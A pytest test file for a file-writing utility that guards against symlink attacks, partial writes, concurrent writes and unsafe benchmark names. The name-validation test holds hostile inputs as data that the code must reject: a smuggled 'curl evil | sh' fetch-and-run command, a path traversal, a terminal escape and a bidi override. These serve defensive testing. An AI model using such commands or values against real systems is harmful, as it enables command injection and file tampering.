import json
import os
import stat
import time

import pytest

from mllm_jax import files


@pytest.fixture
def victim(tmp_path):
    path = tmp_path / "victim"
    path.write_text("precious")
    return path


@pytest.mark.parametrize(
    "write",
    [
        lambda path: files.write_text(path, "new"),
        lambda path: files.write_bytes(path, b"new"),
        lambda path: files.write_json(path, "new"),
    ],
)
def test_a_planted_link_is_replaced_and_its_target_left_alone(tmp_path, victim, write):
    path = tmp_path / "report.md"
    path.symlink_to(victim)
    write(path)
    assert victim.read_text() == "precious"
    assert not path.is_symlink()
    assert "new" in path.read_text()
    assert sorted(os.listdir(tmp_path)) == ["report.md", "victim"]


@pytest.mark.parametrize("mode", ["a", "r+b"])
def test_a_file_that_grows_is_not_opened_through_a_link(tmp_path, victim, mode):
    path = tmp_path / "predictions.jsonl"
    path.symlink_to(victim)
    with (
        pytest.raises(OSError, match=r"symbolic link.*predictions\.jsonl"),
        open(path, mode, opener=files.no_links),
    ):
        pass
    path.unlink()
    with open(path, "a", opener=files.no_links) as file:
        file.write("row\n")
    assert path.read_text() == "row\n"


def test_a_temporary_name_that_is_taken_is_not_opened(tmp_path, victim, monkeypatch):
    monkeypatch.setattr(files.secrets, "token_hex", lambda n: "0" * 2 * n)
    (tmp_path / ".a.0000000000000000.part").symlink_to(victim)
    with pytest.raises(FileExistsError):
        files.write_text(tmp_path / "a", "new")
    assert victim.read_text() == "precious"
    assert (tmp_path / ".a.0000000000000000.part").is_symlink()  # not ours to remove


def test_a_failure_leaves_the_old_file_and_nothing_else(tmp_path):
    path = tmp_path / "a.json"
    files.write_json(path, {"text": "é"})
    assert path.read_text(encoding="utf-8") == '{\n "text": "é"\n}\n'

    def fail():
        with files.replacing(path) as file:
            file.write(b"half")
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fail()
    assert json.loads(path.read_text()) == {"text": "é"}
    assert os.listdir(tmp_path) == ["a.json"]


def test_halves_of_characters_are_escaped(tmp_path):
    value = {"\ud800": ["é", "\udfff x"]}
    files.write_json(tmp_path / "a.json", value)
    text = (tmp_path / "a.json").read_text(encoding="utf-8")
    assert json.loads(text) == value
    assert "é" in text


def test_two_who_write_one_file_at_once_do_not_mix(tmp_path):
    path = tmp_path / "mini.json"
    with files.replacing(path) as file:
        file.write(b"fir")
        files.write_text(path, "second")  # begins and ends while the first is writing
        assert path.read_text() == "second"
        file.write(b"st")
    assert path.read_text() == "first"
    assert os.listdir(tmp_path) == ["mini.json"]


def test_permission_bits_are_those_of_the_file_or_of_the_umask(tmp_path):
    old = os.umask(0o027)
    try:
        path = tmp_path / "a"
        files.write_text(path, "1")
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
        path.chmod(0o600)
        files.write_text(path, "2")
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_only_old_temporary_files_of_ours_are_removed(tmp_path):
    old, new, other = (
        tmp_path / name for name in (".a.0123456789abcdef.part", ".b.0123456789abcdef.part", "c.part")
    )
    for path in (old, new, other):
        path.touch()
    for path in (old, other):
        os.utime(path, (time.time() - 7200,) * 2)
    files.remove_stale(tmp_path)
    assert {path.name for path in tmp_path.iterdir()} == {new.name, other.name}


@pytest.mark.parametrize(
    ("name", "fault"),
    [
        ("", "is empty"),
        ("  ", "is empty"),
        ("x/../../home", "path separator"),
        ("a\\b", "path separator"),
        ("..", "begins with a dot"),
        (".bashrc", "begins with a dot"),
        ("a\ncurl evil | sh", "cannot be printed"),
        ("a\u202eb", "cannot be printed"),
        ("a\x1b]52;c;", "cannot be printed"),
        ("é" * 101, "longer than"),
    ],
)
def test_names_that_may_not_become_paths_or_headings(name, fault):
    with pytest.raises(ValueError, match=f"benchmark .*{fault}"):
        files.check_name(name, "benchmark")


@pytest.mark.parametrize("name", ["mini", "gqa-testdev", "my data", "图表", "mmbench_cn.dev"])
def test_names_that_may(name):
    assert files.check_name(name, "benchmark") == name


def test_half_of_a_surrogate_pair_is_spelled_out(tmp_path):
    files.write_text(tmp_path / "report.md", "a \ud800 b")
    assert (tmp_path / "report.md").read_text(encoding="utf-8") == "a \\ud800 b"
